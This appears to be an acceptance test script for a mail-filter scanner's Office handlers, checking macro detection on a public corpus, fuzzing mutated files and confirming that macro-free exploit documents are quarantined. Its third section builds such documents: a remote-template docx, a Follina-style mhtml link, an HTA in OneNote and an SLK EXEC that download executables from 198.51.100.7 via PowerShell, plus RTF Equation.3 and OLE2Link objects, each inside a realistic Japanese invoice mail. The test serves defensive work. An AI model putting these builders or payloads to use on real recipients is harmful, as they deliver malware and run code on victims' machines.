#!/bin/sh
# office-corpus.sh - acceptance of the Office handlers on the public corpus.
#
# 1. Inventory: every row of OFFICE_MACRO_INVENTORY.tsv (found by olevba)
#    marked vba=yes must show a VBA project (vba_sha256 on some object of
#    the report), every row marked xlm=yes an XLM sheet; every other file
#    of the Office folders must raise neither OFFICE_MACRO nor XLM_MACRO.
#    Known exceptions are listed in EXCEPTIONS below with the reason.
# 2. Robustness: truncated and bit-flipped copies of the Office files
#    (deterministic seed) are scanned too; every scan must end with exit
#    status 0 or 1 within 20 s. Peak RSS of the scans is printed.
# 3. Exploit forms in mail: each document form that needs no macro (remote
#    template, dangerous link scheme, DDE in docx/xlsb/CSV, RTF Equation
#    and OLE2Link objects, OLE packages holding or running an executable,
#    XLM EXEC, OneNote embedding a script), taken from the corpus or built
#    from a corpus document, is attached alone to a plain business mail
#    from a partner domain and scanned with tests/emofilter-test.conf: each
#    must be quarantined or rejected. The verdicts are printed.
#
# Needs python3 and the corpus (../shared/corpus or $EMF_CORPUS); exit 77
# (skip) without them. MUTANTS=N sets how many files are mutated (default
# 150, two copies each).
top_srcdir=${top_srcdir:-$(cd "$(dirname "$0")/.." && pwd)}
top_builddir=${top_builddir:-$top_srcdir}
scan="$top_builddir/src/cli/emofilter-scan"

corpus=${EMF_CORPUS:-}
for c in "$top_srcdir/../shared/corpus" "$top_srcdir/../../shared/corpus"; do
	[ -z "$corpus" ] && [ -f "$c/OFFICE_MACRO_INVENTORY.tsv" ] && corpus=$c
done
if [ -z "$corpus" ] || [ ! -f "$corpus/OFFICE_MACRO_INVENTORY.tsv" ]; then
	echo "office-corpus: corpus not found, skipped"
	exit 77
fi
command -v python3 >/dev/null 2>&1 || { echo "no python3, skipped"; exit 77; }
[ -x "$scan" ] || { echo "office-corpus: $scan not built"; exit 1; }

exec python3 - "$scan" "$corpus" "${MUTANTS:-150}" \
    "$top_srcdir/tests/emofilter-test.conf" <<'EOF'
import json, os, random, resource, subprocess, sys, tempfile

scan, corpus, nmut = sys.argv[1], sys.argv[2], int(sys.argv[3])
folders = ["tika-office", "poi-testdata", "calamine-tests",
           "oletools-testdata", "msoffcrypto-testdata"]

# Rows olevba lists that are not VBA or not Office, and why.
EXCEPTIONS = {
    # LibreOffice Basic in ODF flat XML: not VBA (olevba reads it as text).
    "tika-office/testODPMacro.fodp": "LibreOffice Basic, not VBA",
    "tika-office/testODSMacro.fods": "LibreOffice Basic, not VBA",
    "tika-office/testODTMacro.fodt": "LibreOffice Basic, not VBA",
}

# Files olevba 0.60.3 missed where a VBA project is really present: the
# rows are added here (with the evidence) and must be found like the others.
CORRECTIONS = {
    # PowerPoint 97: zlib-compressed ExOleObjStg holding VBA/dir, module
    # Module1 ("Attribute VB_Name = \"Module1\"", OnSlideShowPageChange).
    "poi-testdata/slideshow/bug55030.ppt": (True, False),
}

inv = {}
with open(os.path.join(corpus, "OFFICE_MACRO_INVENTORY.tsv")) as f:
    for line in f:
        if line.startswith("#") or line.startswith("path\t"):
            continue
        p = line.rstrip("\n").split("\t")
        if len(p) >= 4:
            inv[p[0]] = (p[2].startswith("yes"), p[3].startswith("yes"))

inv.update(CORRECTIONS)

def walk(objs, acc):
    for o in objs:
        if o.get("vba_sha256"):
            acc["vba"] = True
        if o.get("xlm_sheets"):
            acc["xlm"] = True
        walk(o.get("children") or [], acc)

def run(path):
    try:
        r = subprocess.run([scan, "--raw", "--json", path],
                           capture_output=True, timeout=20)
    except subprocess.TimeoutExpired:
        return None, "timeout"
    if r.returncode not in (0, 1):
        return None, "exit %d: %s" % (r.returncode,
                                       r.stderr.decode(errors="replace")[-300:])
    try:
        rep = json.loads(r.stdout.decode().splitlines()[0])
    except Exception as e:
        return None, "bad JSON: %s" % e
    acc = {"vba": False, "xlm": False,
           "syms": {s["name"] for s in rep.get("symbols", [])}}
    walk(rep.get("objects", []), acc)
    return acc, None

files = []
for d in folders:
    for root, _, names in os.walk(os.path.join(corpus, d)):
        for n in sorted(names):
            files.append(os.path.relpath(os.path.join(root, n), corpus))
files.sort()

fail = []
stats = {"vba_rows": 0, "vba_found": 0, "xlm_rows": 0, "xlm_found": 0,
         "clean": 0, "fp": 0}
for rel in files:
    acc, err = run(os.path.join(corpus, rel))
    if err:
        fail.append("%s: %s" % (rel, err))
        continue
    if rel in EXCEPTIONS:
        continue
    if rel in inv:
        vba, xlm = inv[rel]
        if vba:
            stats["vba_rows"] += 1
            if acc["vba"]:
                stats["vba_found"] += 1
            else:
                fail.append("%s: VBA expected, not found" % rel)
        if xlm:
            stats["xlm_rows"] += 1
            if acc["xlm"]:
                stats["xlm_found"] += 1
            else:
                fail.append("%s: XLM expected, not found" % rel)
    else:
        stats["clean"] += 1
        hit = acc["syms"] & {"OFFICE_MACRO", "XLM_MACRO"}
        if hit:
            stats["fp"] += 1
            fail.append("%s: macro-free file, got %s" % (rel, sorted(hit)))
missing = [r for r in inv if r not in files]
for r in missing:
    fail.append("%s: inventory row, file absent" % r)
print("inventory: VBA %(vba_found)d/%(vba_rows)d, XLM %(xlm_found)d/%(xlm_rows)d;"
      " macro-free files %(clean)d, false positives %(fp)d" % stats)
print("corrections (VBA olevba missed): %s" % ", ".join(sorted(CORRECTIONS)))
print("exceptions: %d (%s)" % (len(EXCEPTIONS), "; ".join(
    "%s: %s" % kv for kv in sorted(EXCEPTIONS.items()))))

# Mutants: truncated and bit-flipped copies.
rng = random.Random(4)
office_ext = (".doc", ".dot", ".xls", ".xlt", ".ppt", ".pps", ".docm",
              ".docx", ".xlsm", ".xlsx", ".xlsb", ".pptm", ".pptx",
              ".dotm", ".xltm", ".vsdm", ".slk", ".ole2", ".msg", ".vsd")
cands = [f for f in files if f.lower().endswith(office_ext) and
         os.path.getsize(os.path.join(corpus, f)) < 2 * 1024 * 1024]
pick = sorted(set(list(inv)[:60] + rng.sample(cands, min(nmut, len(cands)))))
pick = [p for p in pick if p in files][:max(nmut, 1)]
nm = 0
with tempfile.TemporaryDirectory() as td:
    for rel in pick:
        data = open(os.path.join(corpus, rel), "rb").read()
        if len(data) < 16:
            continue
        ext = os.path.splitext(rel)[1]
        cut = data[:rng.randrange(8, len(data))]
        flip = bytearray(data)
        for _ in range(max(1, len(data) // 2000)):
            i = rng.randrange(len(flip))
            flip[i] ^= 1 << rng.randrange(8)
        # Hit the structures: the OLE2 header and first directory sector.
        for _ in range(8):
            i = rng.randrange(min(len(flip), 4096))
            flip[i] = rng.randrange(256)
        for tag, blob in (("cut", cut), ("flip", bytes(flip))):
            p = os.path.join(td, "m%d-%s%s" % (nm, tag, ext))
            open(p, "wb").write(blob)
            _, err = run(p)
            if err:
                keep = os.path.join(tempfile.gettempdir(),
                                    "office-mutant-%d-%s%s" % (nm, tag, ext))
                open(keep, "wb").write(blob)
                fail.append("mutant of %s (%s, kept as %s): %s" %
                            (rel, tag, keep, err))
            os.unlink(p)
        nm += 1
# 3. Exploit forms attached to a mail.
import base64, io, zipfile
conf = sys.argv[4]

def corpus_file(rel):
    return open(os.path.join(corpus, rel), "rb").read()

def docx_with(base_rel, part, rels_part, rel_xml, edit=None):
    """A corpus .docx with one relationship added (and part edited)."""
    src = zipfile.ZipFile(io.BytesIO(corpus_file(base_rel)))
    buf = io.BytesIO()
    dst = zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED)
    names = src.namelist()
    for n in names:
        d = src.read(n)
        if n == rels_part:
            d = d.replace(b"</Relationships>", rel_xml + b"</Relationships>")
        if n == part and edit:
            d = edit(d)
        dst.writestr(n, d)
    if rels_part not in names:
        dst.writestr(rels_part, b'<?xml version="1.0" encoding="UTF-8" '
                     b'standalone="yes"?>\n<Relationships xmlns="http://'
                     b'schemas.openxmlformats.org/package/2006/relationships">'
                     + rel_xml + b"</Relationships>")
    dst.close()
    return buf.getvalue()

R = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
def template(d):
    return d.replace(b"<w:defaultTabStop", b'<w:attachedTemplate r:id='
                     b'"rIdT1"/><w:defaultTabStop', 1)
remote_template = docx_with(
    "oletools-testdata/msodde/harmless-clean.docx", "word/settings.xml",
    "word/_rels/settings.xml.rels",
    b'<Relationship Id="rIdT1" Type="' + R + b'attachedTemplate" Target='
    b'"http://198.51.100.7/office/normal.dotm" TargetMode="External"/>',
    template)
follina = docx_with(
    "oletools-testdata/msodde/harmless-clean.docx", None,
    "word/_rels/document.xml.rels",
    b'<Relationship Id="rIdF1" Type="' + R + b'oleObject" Target='
    b'"mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html"'
    b' TargetMode="External"/>')

def ole1(cls, data):
    """An OLE1 embedded object (as in \\objdata): class name and data."""
    c = cls.encode() + b"\0"
    return (b"\x01\x05\0\0\x02\0\0\0" + len(c).to_bytes(4, "little") + c +
            b"\0" * 8 + len(data).to_bytes(4, "little") + data)

def rtf_object(cls, data):
    hexd = ole1(cls, data).hex()
    # Obfuscated the usual way: white space inside the hex.
    hexd = "\n".join(hexd[i:i + 62] for i in range(0, len(hexd), 62))
    return ("{\\rtf1\\ansi{\\fonttbl{\\f0 Times;}}\\f0 Invoice\\par"
            "{\\object\\objemb\\objupdate{\\*\\objclass %s}"
            "{\\*\\objdata %s}}}" % (cls, hexd)).encode()

one_hdr = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
one_name = "invoice.hta".encode("utf-16-le") + b"\0\0"
hta = (b"<html><script language=\"VBScript\">CreateObject(\"WScript.Shell\")"
       b".Run \"powershell -w hidden -c iwr http://198.51.100.7/a.exe\""
       b"</script></html>")
onenote = (one_hdr + b"\0" * 64 + one_name + b"\0" * 16 +
           bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") +
           len(hta).to_bytes(8, "little") + b"\0" * 12 + hta +
           bytes.fromhex("22a7fb71790f0b4abb13899256426b24"))
slk = corpus_file("oletools-testdata/excel4-macros/excel4_sample_macro.slk")
slk_exec = slk.replace(b'EALERT("This is a sample Excel 4 macro")',
                       b'EEXEC("cmd.exe /c powershell -c iwr '
                       b'http://198.51.100.7/p.exe -o %TEMP%\\p.exe")')

forms = [
    ("remote template (built from harmless-clean.docx)", "Invoice.docx",
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
     remote_template),
    ("mhtml: oleObject link (built from harmless-clean.docx)", "Order.docx",
     "application/octet-stream", follina),
    ("DDE field, msodde/dde-test.docx", "Invoice.docx",
     "application/octet-stream",
     corpus_file("oletools-testdata/msodde/dde-test.docx")),
    ("DDE link, msodde/dde-test.xlsb", "Invoice.xlsb",
     "application/octet-stream",
     corpus_file("oletools-testdata/msodde/dde-test.xlsb")),
    ("DDE in CSV, msodde/dde-in-csv.csv", "list.csv", "text/csv",
     corpus_file("oletools-testdata/msodde/dde-in-csv.csv")),
    ("RTF exploit class, rtfobj/issue_251.rtf", "Invoice.rtf",
     "application/rtf", corpus_file("oletools-testdata/rtfobj/issue_251.rtf")),
    ("RTF Equation.3 object (built)", "Invoice.doc", "application/msword",
     rtf_object("Equation.3", b"\x1c\0" + b"A" * 300)),
    ("RTF OLE2Link object (built)", "Invoice.rtf", "application/rtf",
     rtf_object("OLE2Link", b"\xd0\xcf\x11\xe0" + b"\0" * 60)),
    ("OLE package with calc.exe, oleobj/sample_with_calc_embedded.doc",
     "Invoice.doc", "application/msword",
     corpus_file("oletools-testdata/oleobj/sample_with_calc_embedded.doc")),
    ("OLE package with calc.lnk, oleobj/sample_with_lnk_file.ppt",
     "Slides.ppt", "application/vnd.ms-powerpoint",
     corpus_file("oletools-testdata/oleobj/sample_with_lnk_file.ppt")),
    ("OLE package linking calc.exe, oleobj/sample_with_lnk_to_calc.doc",
     "Invoice.doc", "application/msword",
     corpus_file("oletools-testdata/oleobj/sample_with_lnk_to_calc.doc")),
    ("XLM EXEC (built from excel4_sample_macro.slk)", "Invoice.slk",
     "application/octet-stream", slk_exec),
    ("OneNote embedding an .hta (built)", "Invoice.one",
     "application/onenote", onenote),
]

def mail(fname, ctype, data):
    b64 = base64.encodebytes(data).decode()
    return ("From: \"Tanaka Ichiro\" <tanaka@partner-kogyo.example>\r\n"
            "To: <sato@example.jp>\r\n"
            "Subject: =?UTF-8?B?%s?=\r\n"
            "Date: Thu, 03 Dec 2026 10:00:00 +0900\r\n"
            "Message-ID: <exploit-form@partner-kogyo.example>\r\n"
            "MIME-Version: 1.0\r\n"
            "Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
            "--b1\r\nContent-Type: text/plain; charset=UTF-8\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n%s\r\n"
            "--b1\r\nContent-Type: %s; name=\"%s\"\r\n"
            "Content-Disposition: attachment; filename=\"%s\"\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n%s--b1--\r\n" % (
                base64.b64encode("御見積書の送付".encode()).decode(),
                base64.b64encode("佐藤様\nお世話になっております。\n"
                                 "御見積書を添付いたします。ご確認ください。"
                                 "\n田中".encode()).decode(),
                ctype, fname, fname, b64)).encode()

with tempfile.TemporaryDirectory() as td:
    for i, (what, fname, ctype, data) in enumerate(forms):
        p = os.path.join(td, "form%d.eml" % i)
        open(p, "wb").write(mail(fname, ctype, data))
        r = subprocess.run([scan, "-c", conf, "--json", p],
                           capture_output=True, timeout=20)
        try:
            rep = json.loads(r.stdout.decode().splitlines()[0])
        except Exception as e:
            fail.append("exploit form %s: no report (%s)" % (what, e))
            continue
        syms = " ".join(sorted(x["name"] for x in rep["symbols"]))
        print("exploit form: %-62s %-10s %5.1f %s" % (
            what, rep["action"], rep["score"], syms))
        if rep["action"] not in ("quarantine", "reject"):
            fail.append("exploit form %s: %s %.1f (%s), want quarantine"
                        % (what, rep["action"], rep["score"], syms))

rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
print("scanned %d files and %d mutants; peak RSS of one scan %d KiB" %
      (len(files), 2 * nm, rss))
for f in fail:
    print("FAIL " + f)
sys.exit(1 if fail else 0)
EOF
